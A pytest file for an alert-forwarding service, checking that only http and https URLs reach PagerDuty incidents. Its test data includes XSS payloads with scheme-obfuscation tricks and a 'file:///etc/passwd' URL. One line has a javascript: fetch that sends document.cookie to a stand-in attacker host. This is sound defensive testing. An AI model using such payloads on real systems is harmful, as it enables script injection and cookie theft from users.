"""Only http and https URLs are forwarded to PagerDuty as links, image links or client URLs
(image sources: https only), whichever format an alert came in; anything else is dropped with
a note in the event's delivery log. PagerDuty renders these as links for whoever opens the
incident, where `javascript:` would run."""

from __future__ import annotations

import json
from typing import Any

import httpx2
import pytest
from databases import Database

from app.urls import is_web_url
from app.webhooks.payload import parse_event
from tests.conftest import admin_headers

# Each is something a browser would not treat as a plain http(s) link. Leading blanks and
# control characters, and tabs or newlines inside the scheme, are skipped or dropped by
# browsers, so they hide a scheme rather than break it.
BAD_URLS = [
    "javascript:alert(document.cookie)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "mailto:ops@example.com",
    "//evil.example/x",
    "/relative/path",
    "https:evil.example",
    "https:/evil.example",
    "https://",
    "https://:443/x",
    "http://[::1/x",
]
GOOD_URLS = [
    "https://grafana.example/d/abc?orgId=1",
    "HTTP://prometheus.example:9090/graph?g0.expr=up",
    "http://10.0.0.7/",
]
BAD_MARKERS = ("javascript", "script:", "data:", "vbscript", "file:", "mailto:", "evil.example")
ROUTING_KEY = "u" * 16 + "0123456789abcdef"


def test_only_absolute_http_and_https_urls_with_a_host_pass() -> None:
    for url in BAD_URLS:
        assert not is_web_url(url), url
    for url in GOOD_URLS:
        assert is_web_url(url), url
    assert not is_web_url(None)
    assert not is_web_url("http://images.example/a.png", schemes=("https://",))


async def tenant_with_service(client: httpx2.AsyncClient, api: str) -> str:
    """A tenant whose one service takes everything; returns its ingest key."""
    created = await client.post(
        "/admin/v1/tenants", json={"name": f"URLs {api}"}, headers=admin_headers()
    )
    assert created.status_code == 201
    tenant = created.json()
    added = await client.post(
        f"/admin/v1/tenants/{tenant['id']}/services",
        json={"name": "Ops", "routing_key": ROUTING_KEY, "api": api},
        headers=admin_headers(),
    )
    assert added.status_code == 201, added.text
    key: str = tenant["ingest_key"]
    return key


async def sent_events(db: Database) -> list[tuple[dict[str, Any], list[str]]]:
    rows = await db.fetch_all("SELECT body, notes FROM events ORDER BY seq")
    out = []
    for row in rows:
        body = row._mapping["body"]
        out.append(
            (json.loads(body) if isinstance(body, str) else body, list(row._mapping["notes"]))
        )
    return out


def forwarded_urls(body: dict[str, Any]) -> list[str]:
    """Every URL the body hands PagerDuty to render as a link or an image, v2 or v1."""
    urls = [link["href"] for link in body.get("links", [])]
    for image in body.get("images", []):
        urls += [image["src"], *([image["href"]] if "href" in image else [])]
    for context in body.get("contexts", []):
        urls += [context[k] for k in ("href", "src") if k in context]
    if "client_url" in body:
        urls.append(body["client_url"])
    return urls


def links_and_images(bad: list[str]) -> dict[str, Any]:
    good = GOOD_URLS[0]
    return {
        "links": [{"href": url, "text": "x"} for url in [*bad, good]],
        "images": [
            *({"src": url} for url in bad),
            *({"src": "https://img.example/a.png", "href": url} for url in bad),
            {"src": "https://img.example/b.png", "href": good},
        ],
    }


def assert_only_web_urls(body: dict[str, Any], notes: list[str], *, expect: list[str]) -> None:
    urls = forwarded_urls(body)
    assert all(is_web_url(u) for u in urls), urls
    for marker in BAD_MARKERS:
        assert not any(marker in u.lower() for u in urls), (marker, urls)
    for url in expect:
        assert url in urls, (url, urls)
    assert notes, "a dropped URL is said in the event's notes"


@pytest.mark.parametrize("api", ["v2", "v1"])
async def test_native_alerts_forward_only_web_links_and_images(
    client: httpx2.AsyncClient, db: Database, api: str
) -> None:
    key = await tenant_with_service(client, api)
    alert = {"summary": "Disk full", "dedup_key": "disk-1", **links_and_images(BAD_URLS)}
    sent = await client.post("/v1/alerts", json=alert, headers={"Authorization": f"Bearer {key}"})
    assert sent.status_code == 202, sent.text
    [(body, notes)] = await sent_events(db)
    assert_only_web_urls(
        body, notes, expect=[GOOD_URLS[0], "https://img.example/a.png", "https://img.example/b.png"]
    )
    assert "link dropped: not http or https" in notes
    assert "image dropped: not https" in notes
    assert "image href dropped: not http or https" in notes


@pytest.mark.parametrize("api", ["v2", "v1"])
async def test_events_v2_drop_ins_forward_only_web_urls(
    client: httpx2.AsyncClient, db: Database, api: str
) -> None:
    key = await tenant_with_service(client, api)
    for i, bad in enumerate(BAD_URLS):
        event = {
            "routing_key": key,
            "event_action": "trigger",
            "dedup_key": f"d{i}",
            "payload": {"summary": "s", "source": "db1", "severity": "error"},
            "client": "Monitor",
            "client_url": bad,
            **links_and_images([bad]),
        }
        sent = await client.post("/v2/enqueue", json=event)
        assert sent.status_code == 202, sent.text
    events = await sent_events(db)
    assert len(events) == len(BAD_URLS)
    for body, notes in events:
        assert_only_web_urls(body, notes, expect=[GOOD_URLS[0]])
        assert "client_url dropped: not http or https" in notes
        assert "client_url" not in body


async def test_change_events_forward_only_web_links(
    client: httpx2.AsyncClient, db: Database
) -> None:
    key = await tenant_with_service(client, "v2")
    change = {
        "routing_key": key,
        "payload": {"summary": "Deployed v42"},
        "links": [{"href": url} for url in [*BAD_URLS, GOOD_URLS[1]]],
    }
    sent = await client.post("/v2/change/enqueue", json=change)
    assert sent.status_code == 202, sent.text
    [(body, notes)] = await sent_events(db)
    assert_only_web_urls(body, notes, expect=[GOOD_URLS[1]])
    assert notes == ["link dropped: not http or https"]


@pytest.mark.parametrize("api", ["v2", "v1"])
async def test_events_v1_drop_ins_forward_only_web_urls(
    client: httpx2.AsyncClient, db: Database, api: str
) -> None:
    key = await tenant_with_service(client, api)
    for i, bad in enumerate(BAD_URLS):
        good = GOOD_URLS[2]
        event = {
            "service_key": key,
            "event_type": "trigger",
            "incident_key": f"i{i}",
            "description": "Disk full",
            "client": "Monitor",
            "client_url": bad,
            "contexts": [
                {"type": "link", "href": bad},
                {"type": "link", "href": good, "text": "ok"},
                {"type": "image", "src": bad},
                {"type": "image", "src": "https://img.example/c.png", "href": bad},
            ],
        }
        sent = await client.post("/generic/2010-04-15/create_event.json", json=event)
        assert sent.status_code == 200, sent.text
    events = await sent_events(db)
    assert len(events) == len(BAD_URLS)
    for body, notes in events:
        assert_only_web_urls(body, notes, expect=[good, "https://img.example/c.png"])
        assert "client_url" not in body


def alertmanager_webhook(generator_url: str, external_url: str) -> dict[str, Any]:
    labels = {"alertname": "DiskFull", "instance": "db1:9100", "severity": "critical"}
    return {
        "version": "4",
        "groupKey": '{}:{alertname="DiskFull"}',
        "status": "firing",
        "receiver": "pdconnect",
        "groupLabels": {"alertname": "DiskFull"},
        "commonLabels": labels,
        "commonAnnotations": {},
        "externalURL": external_url,
        "alerts": [
            {
                "status": "firing",
                "labels": labels,
                "annotations": {"summary": "Disk full"},
                "startsAt": "2026-11-22T12:00:00Z",
                "endsAt": "0001-01-01T00:00:00Z",
                "generatorURL": generator_url,
                "fingerprint": "f00d",
            }
        ],
    }


@pytest.mark.parametrize("mode", ["group", "alert"])
async def test_alertmanager_generator_and_external_urls_are_forwarded_only_when_web(
    client: httpx2.AsyncClient, db: Database, mode: str
) -> None:
    key = await tenant_with_service(client, "v2")
    path = f"/v1/alerts/alertmanager?mode={mode}"
    auth = {"Authorization": f"Bearer {key}"}
    bad = "javascript:fetch('//evil.example/'+document.cookie)"
    sent = await client.post(path, json=alertmanager_webhook(bad, bad), headers=auth)
    assert sent.status_code == 202, sent.text
    good = "http://prometheus.example:9090/graph?g0.expr=up"
    resolved = alertmanager_webhook(good, "http://alertmanager.example:9093")
    resolved["groupKey"] = '{}:{alertname="Other"}'
    resolved["alerts"][0]["fingerprint"] = "beef"
    sent = await client.post(path, json=resolved, headers=auth)
    assert sent.status_code == 202, sent.text

    [(dropped, notes), (kept, _)] = await sent_events(db)
    assert_only_web_urls(dropped, notes, expect=[])
    assert "client_url dropped: not http or https" in notes
    assert "client_url" not in dropped
    # Web ones go on as before: the alert's own link (alert mode only) and the client URL.
    links = [good] if mode == "alert" else []
    assert forwarded_urls(kept) == [*links, "http://alertmanager.example:9093"]


def test_a_webhooks_incident_link_is_kept_only_when_web() -> None:
    def html_url(value: object) -> str | None:
        body = {
            "event": {
                "event_type": "incident.acknowledged",
                "data": {"id": "PINC1", "type": "incident", "html_url": value},
            }
        }
        return parse_event(json.dumps(body).encode()).html_url

    for url in BAD_URLS:
        assert html_url(url) is None, url
    assert html_url(42) is None
    assert html_url("https://acme.pagerduty.com/" + "x" * 2100) is None, "cut, it leads nowhere"
    good = "https://acme.pagerduty.com/incidents/PINC1"
    assert html_url(good) == good
